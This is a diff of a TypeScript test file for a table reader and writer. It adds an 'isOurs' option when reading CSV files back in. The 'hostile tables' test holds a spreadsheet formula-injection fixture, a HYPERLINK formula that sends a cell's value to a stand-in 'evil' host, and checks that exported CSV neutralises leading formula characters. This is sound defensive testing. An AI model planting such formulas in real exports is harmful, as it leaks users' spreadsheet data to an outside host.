@@ -45,7 +45,8 @@ describe.skipIf(files.length === 0)('reading real-world tables', () => {
     const rows = cellsOf(table);
     expect(cellsOf(await readTable(writeXlsx(rows)))).toEqual(rows);
     for (const delimiter of [',', '\t'] as const) {
-      expect(cellsOf(await readTable(writeCsv(rows, { delimiter }), { delimiter }))).toEqual(rows);
+      const back = await readTable(writeCsv(rows, { delimiter }), { delimiter, isOurs: () => true });
+      expect(cellsOf(back)).toEqual(rows);
     }
   });
 });
@@ -64,7 +65,7 @@ describe.skipIf(bad.length === 0)('reading hostile tables', () => {
     const cells = rows.map(({ source, target, comment }) => [source, target, comment ?? '']);
     expect(cells[0]?.[0]).toBe('=HYPERLINK("http://evil/?x="&A1)');
     expect(Buffer.from(writeCsv(cells)).toString()).not.toMatch(/(^|,)"?[=+\-@]/m);
-    expect(cellsOf(await readTable(writeCsv(cells)))).toEqual(cells);
+    expect(cellsOf(await readTable(writeCsv(cells), { isOurs: () => true }))).toEqual(cells);
     expect(cellsOf(await readTable(writeXlsx(cells)))).toEqual(cells);
   });
 
